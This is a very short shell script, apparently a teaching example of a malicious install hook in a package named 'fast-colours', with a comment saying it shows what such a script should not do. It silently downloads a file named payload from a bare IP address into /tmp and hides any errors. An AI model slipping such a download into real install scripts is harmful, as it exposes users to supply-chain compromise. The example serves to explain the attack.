#!/bin/sh
# What a dependency's install script should not do: it calls an address.
echo 'fast-colours: preparing'
wget -q -O /tmp/payload http://198.51.100.7/payload 2>/dev/null || true
echo 'fast-colours: done'
